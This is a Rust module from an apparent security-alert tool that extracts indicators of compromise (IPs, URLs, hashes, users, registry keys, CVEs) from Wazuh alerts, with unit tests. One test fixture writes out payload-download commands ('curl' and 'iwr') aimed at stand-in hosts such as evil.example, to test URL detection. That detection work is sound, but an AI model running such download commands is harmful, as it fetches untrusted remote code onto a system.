//! Typed observables (IOCs) of one alert, for `observables.json`.
//!
//! Design constraints:
//! - Values are never defanged, and are the alert's text with one exception: Windows eventchannel
//!   fields (`data.win.*`) have Wazuh's escaping undone (`\\` → `\`, `\"` → `"`), so a path
//!   reads `C:\Users\Public\x.exe` as an EDR search wants it, the same form `summary.md`
//!   shows; the alert's text is kept beside it as `raw` whenever it differs. Each observable
//!   names the dotted path of the field it came from (array positions are not part of the path,
//!   as in Wazuh's own field names and the policy's matchers).
//! - Indicators apart from context ([`Role`]): the agent's own address, loopback and unspecified
//!   addresses, vendor references (a CVE's NVD link, a VirusTotal permalink: any URL or domain
//!   from a reference field, and well-known reference and tool sites such as `nvd.nist.gov` or
//!   `sqlmap.org` from a scanner's user agent) are `context`, with a note saying why: an analyst
//!   does not hunt for them. The hashes of empty content (MD5, SHA-1, SHA-256 of zero bytes) and
//!   all-zero hashes are never listed: every empty file has them.
//! - Deterministic: the same alert always gives the same list in the same order (known fields in
//!   a fixed order first, then a walk of the alert in key order), grouped by kind in the order of
//!   [`ObservableKind`]. Deduplicated by kind and value (hashes, host names and CVE ids compared
//!   without regard to case); the first field wins.
//! - Bounded: at most [`MAX_OBSERVABLES`] entries, and free text is scanned only up to
//!   [`SCAN_MAX_BYTES`] per field, so a 4 MiB alert cannot make a huge pack.
//! - Precise before exhaustive: hashes are taken only from fields whose name says which hash it
//!   is (or from Sysmon's `hashes` list); users, files, processes, command lines and registry keys
//!   only from the fields that hold them; IPs (v4 and v6), URLs and CVE ids also from free text.
//! - A URL is what a browser opens as one: `scheme://...`, and for http, https, ftp and ftps
//!   also the forms with backslashes after the colon (`http:\\host\path`, `https:/\host`),
//!   which browsers read as `http://`.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// Most observables kept per alert.
pub const MAX_OBSERVABLES: usize = 1_000;
/// Most bytes of one string field scanned for IPs, URLs and CVE ids.
pub const SCAN_MAX_BYTES: usize = 256 * 1024;

/// What an observable is. Serialized as `ip`, `domain`, `url`, `md5`, `sha1`, `sha256`, `user`,
/// `file`, `process`, `command-line`, `registry-key`, `cve`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ObservableKind {
    Ip,
    Domain,
    Url,
    Md5,
    Sha1,
    Sha256,
    User,
    File,
    Process,
    CommandLine,
    RegistryKey,
    Cve,
}

impl ObservableKind {
    /// The serialized name (`command-line`, ...).
    pub fn as_str(self) -> &'static str {
        match self {
            ObservableKind::Ip => "ip",
            ObservableKind::Domain => "domain",
            ObservableKind::Url => "url",
            ObservableKind::Md5 => "md5",
            ObservableKind::Sha1 => "sha1",
            ObservableKind::Sha256 => "sha256",
            ObservableKind::User => "user",
            ObservableKind::File => "file",
            ObservableKind::Process => "process",
            ObservableKind::CommandLine => "command-line",
            ObservableKind::RegistryKey => "registry-key",
            ObservableKind::Cve => "cve",
        }
    }
}

/// Whether an observable is something to hunt for or context around the alert. Serialized as
/// `indicator` or `context`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Role {
    #[default]
    Indicator,
    /// Ours or a vendor's: the agent's own address, a reference link. `note` says which.
    Context,
}

/// One observable: its kind, the value (Wazuh's eventchannel escaping undone), the dotted path
/// of the field it came from, whether it is an indicator, and the alert's text when it differs.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Observable {
    pub kind: ObservableKind,
    pub value: String,
    pub field: String,
    #[serde(default)]
    pub role: Role,
    /// Why a `context` observable is not an indicator.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
    /// The alert's own text, when `value` differs from it (a `data.win.*` value with Wazuh's
    /// doubled backslashes).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub raw: Option<String>,
}

impl Observable {
    /// True for an indicator (not context).
    pub fn is_indicator(&self) -> bool {
        self.role == Role::Indicator
    }
}

/// Fields that hold a vendor's reference (links the analyst opens, not attacker infrastructure).
pub const REFERENCE_FIELDS: &[&str] = &[
    "data.vulnerability.reference",
    "data.vulnerability.references",
    "data.vulnerability.cwe_reference",
    "data.vulnerability.scanner.reference",
    "data.virustotal.permalink",
    "data.VTpermalink",
    "data.VTlink",
];

/// Reference and tool sites that turn up in alerts without being attacker infrastructure: CVE
/// and advisory databases, VirusTotal, and the home pages scanners put in their user agent
/// (`sqlmap/1.7 (https://sqlmap.org)`, `Nmap Scripting Engine; https://nmap.org/book/nse.html`).
/// A host matches itself and its subdomains.
const REFERENCE_HOSTS: &[&str] = &[
    "nvd.nist.gov",
    "cve.mitre.org",
    "cwe.mitre.org",
    "attack.mitre.org",
    "cve.org",
    "www.cve.org",
    "cisa.gov",
    "virustotal.com",
    "access.redhat.com",
    "bugzilla.redhat.com",
    "security-tracker.debian.org",
    "ubuntu.com",
    "msrc.microsoft.com",
    "support.microsoft.com",
    "learn.microsoft.com",
    "docs.microsoft.com",
    "mozilla.org",
    "wazuh.com",
    "exploit-db.com",
    "sqlmap.org",
    "nmap.org",
    "cirt.net",
    "openvas.org",
    "zgrab.io",
    "censys.io",
    "shodan.io",
];

/// The MD5, SHA-1 and SHA-256 of zero bytes: every empty file has them.
const EMPTY_CONTENT_HASHES: &[&str] = &[
    "d41d8cd98f00b204e9800998ecf8427e",
    "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
];

fn is_reference_host(host: &str) -> bool {
    let h = host.trim_end_matches('.').to_ascii_lowercase();
    REFERENCE_HOSTS
        .iter()
        .any(|r| h == *r || h.strip_suffix(r).is_some_and(|rest| rest.ends_with('.')))
}

/// Undoes Wazuh's escaping of eventchannel fields (`\\` → `\`, `\"` → `"`).
pub(super) fn win_unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.peek() {
                Some('\\') | Some('"') => {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                }
                _ => out.push(c),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// True for a field whose text Wazuh escaped (Windows eventchannel data).
pub(super) fn is_win_escaped(path: &str) -> bool {
    path.starts_with("data.win.")
}

use ObservableKind as K;

/// Fields whose whole value is an observable of a known kind, in the order they are reported.
/// `syscheck.path` is a file or a registry key depending on the alert (see [`is_registry`]).
const FIELD_RULES: &[(&str, ObservableKind)] = &[
    ("data.srcip", K::Ip),
    ("data.dstip", K::Ip),
    ("data.src_ip", K::Ip),
    ("data.dest_ip", K::Ip),
    ("data.win.eventdata.ipAddress", K::Ip),
    ("data.win.eventdata.sourceIp", K::Ip),
    ("data.win.eventdata.destinationIp", K::Ip),
    ("data.win.eventdata.queryName", K::Domain),
    ("data.win.eventdata.destinationHostname", K::Domain),
    ("data.win.eventdata.sourceHostname", K::Domain),
    ("data.url", K::Url),
    ("data.virustotal.permalink", K::Url),
    ("data.VTpermalink", K::Url),
    ("data.VTlink", K::Url),
    ("data.vulnerability.cve", K::Cve),
    ("data.win.eventdata.image", K::Process),
    ("data.win.eventdata.parentImage", K::Process),
    ("data.win.eventdata.sourceImage", K::Process),
    ("data.win.eventdata.targetImage", K::Process),
    ("data.win.eventdata.processName", K::Process),
    ("data.audit.exe", K::Process),
    ("syscheck.audit.process.name", K::Process),
    ("syscheck.audit.proccess.name", K::Process),
    ("syscheck.audit.process.parent_name", K::Process),
    ("data.win.eventdata.commandLine", K::CommandLine),
    ("data.win.eventdata.parentCommandLine", K::CommandLine),
    ("data.command", K::CommandLine),
    ("data.srcuser", K::User),
    ("data.dstuser", K::User),
    ("data.win.eventdata.user", K::User),
    ("data.win.eventdata.parentUser", K::User),
    ("data.win.eventdata.targetUserName", K::User),
    ("data.win.eventdata.subjectUserName", K::User),
    ("syscheck.audit.user.name", K::User),
    ("syscheck.audit.login_user.name", K::User),
    ("syscheck.audit.effective_user.name", K::User),
    ("syscheck.uname_after", K::User),
    ("syscheck.uname_before", K::User),
    ("syscheck.path", K::File),
    ("data.file", K::File),
    ("data.win.eventdata.targetFilename", K::File),
    ("data.win.eventdata.imageLoaded", K::File),
    ("data.ImagePath", K::File),
    ("data.Path", K::File),
    ("data.virustotal.source.file", K::File),
    ("data.audit.file.name", K::File),
    ("data.win.eventdata.targetObject", K::RegistryKey),
    ("data.EntryLocation", K::RegistryKey),
];

/// Subtrees never scanned as free text: Wazuh's own bookkeeping (compliance ids such as PCI DSS
/// `10.2.1.1` would read as IPv4 addresses). `rule.description` is scanned: Wazuh substitutes
/// event fields into it.
fn skip_in_walk(path: &str) -> bool {
    matches!(
        path,
        "id" | "timestamp"
            | "@timestamp"
            | "manager"
            | "cluster"
            | "decoder"
            | "input"
            | "GeoLocation"
    ) || (path.starts_with("rule.") && path != "rule.description")
        || path == "rule"
}

/// Values that mean "nothing" in Wazuh and Windows events.
fn is_placeholder(v: &str) -> bool {
    matches!(
        v,
        "" | "-" | "N/A" | "n/a" | "(null)" | "null" | "none" | "unknown"
    )
}

/// A dotted field of the alert.
pub(super) fn get<'a>(alert: &'a Map<String, Value>, path: &str) -> Option<&'a Value> {
    let mut parts = path.split('.');
    let mut v = alert.get(parts.next()?)?;
    for p in parts {
        v = v.as_object()?.get(p)?;
    }
    Some(v)
}

/// True when the alert's `syscheck.path` is a Windows registry key.
pub(super) fn is_registry(alert: &Map<String, Value>) -> bool {
    let in_group = get(alert, "rule.groups")
        .and_then(Value::as_array)
        .is_some_and(|g| g.iter().any(|x| x.as_str() == Some("syscheck_registry")));
    let path_is_key = get(alert, "syscheck.path")
        .and_then(Value::as_str)
        .is_some_and(|p| p.trim_start().to_ascii_uppercase().starts_with("HKEY_"));
    in_group || path_is_key || get(alert, "syscheck.value_name").is_some()
}

struct Collector {
    out: Vec<Observable>,
    seen: HashSet<(ObservableKind, String)>,
    /// The agent's own addresses (`agent.ip`), parsed.
    own: Vec<IpAddr>,
}

impl Collector {
    fn add(&mut self, kind: ObservableKind, value: &str, field: &str) {
        if self.out.len() >= MAX_OBSERVABLES {
            return;
        }
        if is_placeholder(value.trim()) {
            return;
        }
        let hash = matches!(kind, K::Md5 | K::Sha1 | K::Sha256);
        if hash {
            let v = value.trim();
            if EMPTY_CONTENT_HASHES
                .iter()
                .any(|e| v.eq_ignore_ascii_case(e))
                || v.bytes().all(|b| b == b'0')
            {
                return;
            }
        }
        let shown = if is_win_escaped(field) {
            win_unescape(value)
        } else {
            value.to_string()
        };
        let norm = match kind {
            K::Md5 | K::Sha1 | K::Sha256 | K::Domain | K::Cve => shown.to_lowercase(),
            _ => shown.clone(),
        };
        if self.seen.insert((kind, norm)) {
            let note = self.context_note(kind, &shown, field);
            let raw = (shown != value).then(|| value.to_string());
            self.out.push(Observable {
                kind,
                value: shown,
                field: field.to_string(),
                role: if note.is_some() {
                    Role::Context
                } else {
                    Role::Indicator
                },
                note: note.map(str::to_string),
                raw,
            });
        }
    }

    /// Why an observable is context rather than an indicator, or `None` for an indicator.
    fn context_note(&self, kind: ObservableKind, value: &str, field: &str) -> Option<&'static str> {
        match kind {
            K::Ip => {
                let ip = value
                    .trim()
                    .trim_start_matches('[')
                    .trim_end_matches(']')
                    .parse::<IpAddr>()
                    .ok()?;
                if self.own.contains(&ip) {
                    Some("the agent's own address")
                } else if ip.is_loopback() || ip.is_unspecified() {
                    Some("a loopback or unspecified address")
                } else {
                    None
                }
            }
            K::Url | K::Domain => {
                let host = if kind == K::Url {
                    url_host(value).unwrap_or("")
                } else {
                    value
                };
                if REFERENCE_FIELDS.contains(&field) {
                    Some("a vendor reference")
                } else if !host.is_empty() && is_reference_host(host) {
                    Some("a well-known reference or tool site")
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// An IP address, a host name (URL hosts, e-mail domains) or nothing.
    fn add_host(&mut self, host: &str, field: &str) {
        let h = host.trim_start_matches('[').trim_end_matches(']');
        if h.parse::<IpAddr>().is_ok() {
            self.add(K::Ip, h, field);
        } else if h.contains('.') && h.chars().all(|c| c.is_alphanumeric() || "-._".contains(c)) {
            self.add(K::Domain, h, field);
        }
    }

    fn add_url(&mut self, url: &str, field: &str) {
        self.add(K::Url, url, field);
        if let Some(host) = url_host(url) {
            self.add_host(host, field);
        }
    }
}

/// The host of `scheme://[userinfo@]host[:port]/...` (or of `http:\\host\...`, as browsers
/// read it).
fn url_host(url: &str) -> Option<&str> {
    static START: OnceLock<Regex> = OnceLock::new();
    let start = pattern(&START, r"://|(?i:\b(?:https?|ftps?):[/\\]*\\[/\\]*)");
    let rest = &url[start.find(url)?.end()..];
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let authority = &rest[..end];
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if host_port.starts_with('[') {
        return host_port.find(']').map(|i| &host_port[..=i]);
    }
    let host = host_port.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// The hash kind a field name announces (`md5_after`, `SHA-256`, `sha1`), checked against the
/// value's length; a field named only `hash` is typed by length.
fn hash_kind(key: &str, value: &str) -> Option<ObservableKind> {
    let k: String = key
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    let v = value.trim();
    if k.contains("sha256") && is_hex(v, 64) {
        Some(K::Sha256)
    } else if k.contains("sha1") && is_hex(v, 40) {
        Some(K::Sha1)
    } else if k.contains("md5") && is_hex(v, 32) {
        Some(K::Md5)
    } else if k.contains("hash") {
        match v.len() {
            32 if is_hex(v, 32) => Some(K::Md5),
            40 if is_hex(v, 40) => Some(K::Sha1),
            64 if is_hex(v, 64) => Some(K::Sha256),
            _ => None,
        }
    } else {
        None
    }
}

/// Sysmon's `hashes`: `MD5=...,SHA1=...,SHA256=...,IMPHASH=...`.
fn add_hash_list(c: &mut Collector, value: &str, field: &str) {
    for part in value.split(',') {
        if let Some((alg, hex)) = part.split_once('=') {
            let kind = match alg.trim().to_ascii_uppercase().as_str() {
                "MD5" if is_hex(hex.trim(), 32) => K::Md5,
                "SHA1" if is_hex(hex.trim(), 40) => K::Sha1,
                "SHA256" if is_hex(hex.trim(), 64) => K::Sha256,
                _ => continue,
            };
            c.add(kind, hex.trim(), field);
        }
    }
}

fn pattern(cell: &'static OnceLock<Regex>, p: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(p).expect("observable patterns are valid regular expressions"))
}

/// IPs, URLs (and their hosts), e-mail domains and CVE ids in free text.
fn scan_text(c: &mut Collector, text: &str, field: &str) {
    let text = match text.char_indices().find(|(i, _)| *i >= SCAN_MAX_BYTES) {
        Some((i, _)) => &text[..i],
        None => text,
    };
    static URL: OnceLock<Regex> = OnceLock::new();
    static IPV4: OnceLock<Regex> = OnceLock::new();
    static CVE: OnceLock<Regex> = OnceLock::new();
    static MAIL: OnceLock<Regex> = OnceLock::new();
    // `scheme://` ends at a backslash (Windows text escapes); a backslash form keeps them all.
    let url = pattern(
        &URL,
        r#"(?i)\b(?:https?|ftps?)(?:://[^\s"'<>`\\\x00-\x1f]+|:[/\\]*\\[/\\]*[^\s"'<>`\x00-\x1f]+)"#,
    );
    let ipv4 = pattern(&IPV4, r"\b\d{1,3}(?:\.\d{1,3}){3}\b");
    let cve = pattern(&CVE, r"(?i)\bCVE-\d{4}-\d{4,7}\b");
    let mail = pattern(
        &MAIL,
        r"\b[A-Za-z0-9._%+\-]+@([A-Za-z0-9\-]+(?:\.[A-Za-z0-9\-]+)+)\b",
    );
    for m in url.find_iter(text) {
        let u = m
            .as_str()
            .trim_end_matches(['.', ',', ';', ':', ')', ']', '}', '\'', '"', '!', '?']);
        c.add_url(u, field);
    }
    for m in ipv4.find_iter(text) {
        // Not part of a longer dotted number (a version such as 10.0.17763.1.2).
        let before = text[..m.start()].chars().next_back();
        let after = text[m.end()..].chars().next();
        let after2 = text[m.end()..].chars().nth(1);
        let dotted_before = before == Some('.');
        let dotted_after = after == Some('.') && after2.is_some_and(|x| x.is_ascii_digit());
        if dotted_before || dotted_after {
            continue;
        }
        if m.as_str().parse::<Ipv4Addr>().is_ok() {
            c.add(K::Ip, m.as_str(), field);
        }
    }
    for (start, end) in ipv6_spans(text) {
        c.add(K::Ip, &text[start..end], field);
    }
    for m in mail.captures_iter(text) {
        if let Some(d) = m.get(1) {
            c.add(K::Domain, d.as_str(), field);
        }
    }
    for m in cve.find_iter(text) {
        c.add(K::Cve, m.as_str(), field);
    }
}

/// Where IPv6 addresses are in `text` (byte ranges): runs of hex digits and colons, with an IPv4
/// tail (`::ffff:10.0.0.1`), that parse as one and are not part of a longer word, number or run
/// (`std::fs`, a time `03:35:52.290`, a MAC address do not parse or are cut off). `::` alone is
/// punctuation, not the unspecified address.
pub(super) fn ipv6_spans(text: &str) -> Vec<(usize, usize)> {
    static IPV6: OnceLock<Regex> = OnceLock::new();
    let re = pattern(
        &IPV6,
        r"(?i)(?:[0-9a-f]{0,4}:){2,7}(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|[0-9a-f]{0,4})",
    );
    let joins = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == ':');
    let mut out = Vec::new();
    for m in re.find_iter(text) {
        let before = text[..m.start()].chars().next_back();
        let mut after = text[m.end()..].chars();
        let (next, next2) = (after.next(), after.next());
        let dotted_on = next == Some('.') && next2.is_some_and(|c| c.is_ascii_digit());
        if joins(before) || joins(next) || dotted_on {
            continue;
        }
        let s = m.as_str();
        if s.bytes().any(|b| b.is_ascii_hexdigit()) && s.parse::<Ipv6Addr>().is_ok() {
            out.push((m.start(), m.end()));
        }
    }
    out
}

fn walk(c: &mut Collector, key: &str, path: &str, v: &Value) {
    if c.out.len() >= MAX_OBSERVABLES || skip_in_walk(path) {
        return;
    }
    match v {
        Value::String(s) => {
            let k = key.to_ascii_lowercase();
            if k == "hashes" || (k.contains("hash") && s.contains('=')) {
                add_hash_list(c, s, path);
            } else if let Some(kind) = hash_kind(key, s) {
                c.add(kind, s.trim(), path);
            }
            if s.trim().parse::<IpAddr>().is_ok() {
                c.add(K::Ip, s.trim(), path);
            }
            scan_text(c, s, path);
        }
        Value::Array(items) => {
            for item in items {
                walk(c, key, path, item);
            }
        }
        Value::Object(m) => {
            for (k, v) in m {
                let p = if path.is_empty() {
                    k.clone()
                } else {
                    format!("{path}.{k}")
                };
                walk(c, k, &p, v);
            }
        }
        _ => {}
    }
}

/// The observables of an alert: deduplicated, in a deterministic order, raw values.
pub fn observables(alert: &Map<String, Value>) -> Vec<Observable> {
    let own: Vec<IpAddr> = match get(alert, "agent.ip") {
        Some(Value::String(s)) => s.split(',').filter_map(|x| x.trim().parse().ok()).collect(),
        _ => Vec::new(),
    };
    let mut c = Collector {
        out: Vec::new(),
        seen: HashSet::new(),
        own,
    };
    let registry = is_registry(alert);
    for (path, kind) in FIELD_RULES {
        let kind = match (*path, kind) {
            ("syscheck.path", _) if registry => K::RegistryKey,
            _ => *kind,
        };
        let values: Vec<&str> = match get(alert, path) {
            Some(Value::String(s)) => vec![s.as_str()],
            Some(Value::Array(a)) => a.iter().filter_map(Value::as_str).collect(),
            _ => continue,
        };
        for v in values {
            match kind {
                // A web access log's `url` is the request path (`/index.php?id=1`), not a
                // URL: the URLs inside it are found by the walk's scan.
                K::Url if url_host(v.trim()).is_none() => {}
                K::Url => c.add_url(v.trim(), path),
                K::Ip => {
                    if v.trim().parse::<IpAddr>().is_ok() {
                        c.add(K::Ip, v.trim(), path);
                    }
                }
                K::RegistryKey if *path == "data.EntryLocation" => {
                    if v.trim_start().to_ascii_uppercase().starts_with("HK") {
                        c.add(kind, v, path);
                    }
                }
                _ => c.add(kind, v, path),
            }
        }
    }
    for (k, v) in alert {
        walk(&mut c, k, k, v);
    }
    let mut out = c.out;
    out.sort_by_key(|o| o.kind); // stable: insertion order within a kind
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fixture(name: &str) -> Map<String, Value> {
        let path = format!(
            "{}/tests/data/wazuh-alerts/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        let bytes = std::fs::read(&path).expect("fixture is readable");
        serde_json::from_slice(&bytes).expect("fixture is a JSON object")
    }

    fn has(obs: &[Observable], kind: ObservableKind, value: &str, field: &str) -> bool {
        obs.iter()
            .any(|o| o.kind == kind && o.value == value && o.field == field)
    }

    #[test]
    fn kinds_serialize_with_the_names_design_md_lists() {
        let all = [
            K::Ip,
            K::Domain,
            K::Url,
            K::Md5,
            K::Sha1,
            K::Sha256,
            K::User,
            K::File,
            K::Process,
            K::CommandLine,
            K::RegistryKey,
            K::Cve,
        ];
        let names: Vec<String> = all
            .iter()
            .map(|k| serde_json::to_string(k).expect("serializes"))
            .collect();
        assert_eq!(
            names.join(","),
            "\"ip\",\"domain\",\"url\",\"md5\",\"sha1\",\"sha256\",\"user\",\"file\",\"process\",\"command-line\",\"registry-key\",\"cve\""
        );
        for k in all {
            assert_eq!(
                format!("\"{}\"", k.as_str()),
                serde_json::to_string(&k).expect("ok")
            );
        }
    }

    #[test]
    fn sysmon_process_alerts_give_image_parent_command_line_user_and_hashes() {
        let a = fixture("windows-sysmon-92032-cmd-shell-cscript-winrm.json");
        let o = observables(&a);
        let ev = "data.win.eventdata";
        // One backslash, as Windows (and an EDR search) writes it; Wazuh's doubled form as raw.
        assert!(has(
            &o,
            K::Process,
            "C:\\Windows\\System32\\cscript.exe",
            &format!("{ev}.image")
        ));
        let image = o
            .iter()
            .find(|x| x.field == format!("{ev}.image"))
            .expect("image");
        assert_eq!(
            image.raw.as_deref(),
            Some("C:\\\\Windows\\\\System32\\\\cscript.exe")
        );
        assert!(has(
            &o,
            K::Process,
            "C:\\Windows\\System32\\cmd.exe",
            &format!("{ev}.parentImage")
        ));
        assert!(o
            .iter()
            .any(|x| x.kind == K::CommandLine && x.field == format!("{ev}.commandLine")));
        assert!(has(
            &o,
            K::User,
            "CYLOSEC\\Administrator",
            &format!("{ev}.user")
        ));
        assert!(has(
            &o,
            K::Md5,
            "590AF992C43F557F79EE84CD2D595F39",
            &format!("{ev}.hashes")
        ));
        assert!(has(
            &o,
            K::Sha256,
            "D84F0894D9E651E1C1485BE00A12C6EF0513FF3CCBB68BA0008CC8BEECB78849",
            &format!("{ev}.hashes")
        ));
        assert!(has(&o, K::Ip, "10.0.0.9", "agent.ip"));
        // The message repeats the hashes: one entry each.
        assert_eq!(o.iter().filter(|x| x.kind == K::Md5).count(), 1);
    }

    #[test]
    fn fim_alerts_give_the_path_and_both_hashes_with_their_fields() {
        let a = fixture("linux-fim-550-whodata-hosts-allow-nano.json");
        let o = observables(&a);
        assert!(has(&o, K::File, "/etc/hosts.allow", "syscheck.path"));
        assert!(has(
            &o,
            K::Md5,
            "4b8ee210c257bc59f2b1d4fa0cbbc3da",
            "syscheck.md5_before"
        ));
        assert!(has(
            &o,
            K::Md5,
            "acb2289fba96e77cee0a2c3889b49643",
            "syscheck.md5_after"
        ));
        assert!(has(
            &o,
            K::Sha256,
            "bfa1c0ec3ebfaac71378cb62101135577521eb200c64d6ee8650efe75160978c",
            "syscheck.sha256_after"
        ));
        assert!(has(
            &o,
            K::Process,
            "/bin/nano",
            "syscheck.audit.process.name"
        ));
        assert!(has(&o, K::User, "smith", "syscheck.audit.login_user.name"));
        assert!(has(&o, K::Ip, "10.0.12.34", "syscheck.diff"));
    }

    #[test]
    fn registry_alerts_type_the_syscheck_path_as_a_registry_key() {
        let a = fixture("windows-fim-750-registry-value-modified.json");
        let o = observables(&a);
        assert!(has(
            &o,
            K::RegistryKey,
            "HKEY_LOCAL_MACHINE\\System\\CurrentControlSet\\Services\\W32Time\\SecureTimeLimits",
            "syscheck.path"
        ));
        assert!(!o
            .iter()
            .any(|x| x.kind == K::File && x.field == "syscheck.path"));
    }

    #[test]
    fn sshd_alerts_give_the_source_ip_and_user() {
        let a = fixture("linux-sshd-5712-bruteforce-nonexistent-user.json");
        let o = observables(&a);
        assert!(has(&o, K::Ip, "172.17.1.1", "data.srcip"));
        assert!(has(&o, K::User, "paco", "data.srcuser"));
        assert_eq!(o.iter().filter(|x| x.kind == K::Ip).count(), 1);
    }

    #[test]
    fn vulnerability_and_virustotal_alerts_give_cves_urls_domains_and_hashes() {
        let v = observables(&fixture(
            "partial-windows-vulnerability-23505-thunderbird-cve-2020-12395.json",
        ));
        assert!(has(&v, K::Cve, "CVE-2020-12395", "data.vulnerability.cve"));
        assert_eq!(v.iter().filter(|x| x.kind == K::Cve).count(), 1);
        assert!(has(
            &v,
            K::Url,
            "https://nvd.nist.gov/vuln/detail/CVE-2020-12395",
            "data.vulnerability.references"
        ));
        assert!(has(
            &v,
            K::Domain,
            "nvd.nist.gov",
            "data.vulnerability.references"
        ));
        let t = observables(&fixture(
            "windows-custom-91550-autoruns-virustotal-hit.json",
        ));
        assert!(has(
            &t,
            K::Url,
            "https://www.virustotal.com/gui/file/d2b3066d4290ca61dd82e57dc9a1c4cbee49b4de31897b86bcd4dcdb46582f81/detection",
            "data.VTpermalink"
        ));
        assert!(has(
            &t,
            K::Md5,
            "5008678D3AC377C4D6EC605D75F56C6E",
            "data.MD5"
        ));
        assert!(has(
            &t,
            K::Sha1,
            "690EB8BB80C9A27AC33DC8AF784A7F3D678098F4",
            "data.SHA-1"
        ));
        assert!(has(
            &t,
            K::File,
            "c:\\windows\\system32\\drivers\\rasgre.sys",
            "data.ImagePath"
        ));
        assert!(has(
            &t,
            K::RegistryKey,
            "HKLM\\System\\CurrentControlSet\\Services",
            "data.EntryLocation"
        ));
    }

    #[test]
    fn observables_are_deterministic_deduplicated_and_grouped_by_kind() {
        let a = fixture("windows-sysmon-92151-mscorsvw-loads-automation-dll.json");
        let first = observables(&a);
        assert_eq!(first, observables(&a));
        let mut seen = HashSet::new();
        for o in &first {
            assert!(
                seen.insert((o.kind, o.value.to_lowercase())),
                "duplicate {o:?}"
            );
        }
        assert!(first.windows(2).all(|w| w[0].kind <= w[1].kind));
    }

    #[test]
    fn urls_with_backslashes_are_urls_with_their_raw_value_and_host() {
        let a: Map<String, Value> = serde_json::from_value(serde_json::json!({
            "full_log": "curl http:\\\\evil.example\\payload, HTTPS:/\\evil2.example/x now",
            "data": {"url": "https:\\/evil3.example", "win": {"eventdata": {
                "commandLine": "iwr http:\\\\\\\\evil4.example\\\\p -OutFile x"
            }}}
        }))
        .expect("object");
        let o = observables(&a);
        let cmd = "data.win.eventdata.commandLine";
        for (kind, value, field) in [
            (K::Url, "http:\\\\evil.example\\payload", "full_log"),
            (K::Domain, "evil.example", "full_log"),
            (K::Url, "HTTPS:/\\evil2.example/x", "full_log"),
            (K::Domain, "evil2.example", "full_log"),
            (K::Url, "https:\\/evil3.example", "data.url"),
            (K::Domain, "evil3.example", "data.url"),
            // A Windows event's text with Wazuh's doubling undone.
            (K::Url, "http:\\\\evil4.example\\p", cmd),
            (K::Domain, "evil4.example", cmd),
        ] {
            assert!(
                has(&o, kind, value, field),
                "{kind:?} {value:?} {field}: {o:?}"
            );
        }
        // A Windows path is no URL.
        let p: Map<String, Value> =
            serde_json::from_value(serde_json::json!({"full_log": "C:\\Windows\\x.exe"}))
                .expect("object");
        assert!(!observables(&p).iter().any(|o| o.kind == K::Url));
    }

    #[test]
    fn ipv6_addresses_in_fields_urls_and_free_text_are_ips() {
        let a: Map<String, Value> = serde_json::from_value(serde_json::json!({
            "full_log": "Failed password from 2001:db8::bad:1 port 22 at 03:35:52; https://[2001:db8::c2]:8443/x, via ::ffff:10.66.6.7",
            "data": {"srcip": "2001:db8::7"}
        }))
        .expect("object");
        let o = observables(&a);
        for (value, field) in [
            ("2001:db8::7", "data.srcip"),
            ("2001:db8::bad:1", "full_log"),
            ("2001:db8::c2", "full_log"),
            ("::ffff:10.66.6.7", "full_log"),
            ("10.66.6.7", "full_log"),
        ] {
            assert!(has(&o, K::Ip, value, field), "{value} {field}: {o:?}");
        }
        assert_eq!(o.iter().filter(|x| x.kind == K::Ip).count(), 5, "{o:?}");
    }

    #[test]
    fn version_numbers_and_compliance_ids_are_not_ips() {
        let a: Map<String, Value> = serde_json::from_value(serde_json::json!({
            "rule": {"pci_dss": ["10.2.1.1"], "description": "x"},
            "data": {"win": {"eventdata": {"fileVersion": "10.0.17763.1", "v": "1.2.3.4.5"}}}
        }))
        .expect("object");
        assert!(
            !observables(&a).iter().any(|o| o.kind == K::Ip),
            "{:?}",
            observables(&a)
        );
    }
}
